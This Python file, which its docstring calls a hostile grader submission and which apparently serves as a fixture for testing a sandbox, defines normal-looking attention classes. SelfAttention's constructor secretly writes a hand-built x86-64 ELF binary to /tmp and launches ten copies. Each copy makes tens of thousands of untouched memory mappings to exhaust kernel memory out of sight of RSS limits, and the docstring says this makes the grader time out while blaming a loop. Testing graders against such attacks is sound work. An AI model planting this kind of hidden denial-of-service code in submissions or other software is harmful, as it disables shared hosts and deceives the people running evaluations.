"""Hostile submission (sa_untouched_mappings_in_children): correct code whose SelfAttention.__init__ starts 10 tiny static programs, each making 65,400 shared anonymous mappings of 4 KiB (never touched: ~12 KiB of RSS each) and waiting: kernel memory that no RSS shows (an outside attacker's, with 30 of them: 4.8 GB of slab held under a 512 MiB limit, and the watch stat-ed every mapping at every sample until the grade ran out of time, with a message blaming a loop). SelfAttention must stop for memory; the other classes keep every point."""
import math
import os
import struct
import subprocess
from dataclasses import dataclass

import torch
import torch.nn as nn
import torch.nn.functional as F


@dataclass
class Cfg:
    n_embd: int = 32
    n_head: int = 4
    block_size: int = 16
    dropout: float = 0.0


def _program(count):
    """A static x86-64 ELF: `count` times mmap(NULL, 4096, PROT_READ, MAP_SHARED | MAP_ANONYMOUS), then pause forever."""
    code = bytes.fromhex("BB") + struct.pack("<I", count)
    body = bytes.fromhex("B809000000" "31FF" "BE00100000" "BA01000000" "41BA21000000" "49C7C0FFFFFFFF" "4531C9" "0F05" "FFCB")
    body += bytes([0x75, (-(len(body) + 2)) & 0xFF])
    pause = bytes.fromhex("B822000000" "0F05")
    pause += bytes([0xEB, (-(len(pause) + 2)) & 0xFF])
    code += body + pause
    base = 0x400000
    header = struct.pack("<4sBBBBB7xHHIQQQIHHHHHH", b"\x7fELF", 2, 1, 1, 0, 0, 2, 0x3E, 1, base + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    segment = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, 120 + len(code), 120 + len(code), 0x1000)
    return header + segment + code


_started = []


def _spawn():
    if _started:
        return
    path = os.path.join(os.environ.get("TMPDIR", "/tmp"), "mapper")
    with open(path, "wb") as handle:
        handle.write(_program(65400))
    os.chmod(path, 0o755)
    for _ in range(10):
        _started.append(subprocess.Popen([path], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                         stderr=subprocess.DEVNULL))


class SelfAttention(nn.Module):
    def __init__(self, d_model, d_k=None):
        super().__init__()
        _spawn()
        d_k = d_k or d_model
        self.W_Q = nn.Linear(d_model, d_k, bias=False)
        self.W_K = nn.Linear(d_model, d_k, bias=False)
        self.W_V = nn.Linear(d_model, d_k, bias=False)
        self.d_k = d_k

    def forward(self, x, mask=None):
        Q, K, V = self.W_Q(x), self.W_K(x), self.W_V(x)
        scores = Q @ K.transpose(-2, -1) / math.sqrt(self.d_k)
        if mask is not None:
            scores = scores.masked_fill(mask == 0, float("-inf"))
        weights = torch.softmax(scores, dim=-1)
        return weights @ V, weights


class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, num_heads, dropout=0.1):
        super().__init__()
        if d_model % num_heads != 0:
            raise ValueError("d_model must be divisible by num_heads")
        self.d_model = d_model
        self.num_heads = num_heads
        self.d_k = d_model // num_heads
        self.W_Q = nn.Linear(d_model, d_model, bias=False)
        self.W_K = nn.Linear(d_model, d_model, bias=False)
        self.W_V = nn.Linear(d_model, d_model, bias=False)
        self.W_O = nn.Linear(d_model, d_model, bias=False)
        self.dropout = nn.Dropout(dropout)

    def split_heads(self, x, batch_size):
        return x.view(batch_size, -1, self.num_heads, self.d_k).transpose(1, 2)

    def forward(self, query, key, value, mask=None):
        batch_size = query.size(0)
        Q = self.split_heads(self.W_Q(query), batch_size)
        K = self.split_heads(self.W_K(key), batch_size)
        V = self.split_heads(self.W_V(value), batch_size)
        scores = Q @ K.transpose(-2, -1) / math.sqrt(self.d_k)
        if mask is not None:
            if mask.dim() == 3:
                mask = mask.unsqueeze(1)
            scores = scores.masked_fill(mask == 0, float("-inf"))
        weights = self.dropout(torch.softmax(scores, dim=-1))
        context = (weights @ V).transpose(1, 2).contiguous().view(batch_size, -1, self.d_model)
        return self.W_O(context), weights


class CausalSelfAttention(nn.Module):
    def __init__(self, cfg):
        super().__init__()
        assert cfg.n_embd % cfg.n_head == 0
        self.n_head = cfg.n_head
        self.qkv = nn.Linear(cfg.n_embd, 3 * cfg.n_embd)
        self.proj = nn.Linear(cfg.n_embd, cfg.n_embd)
        self.attn_drop = nn.Dropout(cfg.dropout)
        self.resid_drop = nn.Dropout(cfg.dropout)
        mask = torch.tril(torch.ones(cfg.block_size, cfg.block_size, dtype=torch.bool))
        self.register_buffer("mask", mask.view(1, 1, cfg.block_size, cfg.block_size), persistent=False)

    def forward(self, x, fused=False):
        B, T, C = x.shape
        hs = C // self.n_head
        q, k, v = self.qkv(x).split(C, dim=2)
        q = q.view(B, T, self.n_head, hs).transpose(1, 2)
        k = k.view(B, T, self.n_head, hs).transpose(1, 2)
        v = v.view(B, T, self.n_head, hs).transpose(1, 2)
        if fused:
            p = self.attn_drop.p if self.training else 0.0
            y = F.scaled_dot_product_attention(q, k, v, is_causal=True, dropout_p=p)
        else:
            att = (q @ k.transpose(-2, -1)) / math.sqrt(hs)
            att = att.masked_fill(~self.mask[:, :, :T, :T], float("-inf"))
            att = self.attn_drop(F.softmax(att, dim=-1))
            y = att @ v
        y = y.transpose(1, 2).contiguous().view(B, T, C)
        return self.resid_drop(self.proj(y))
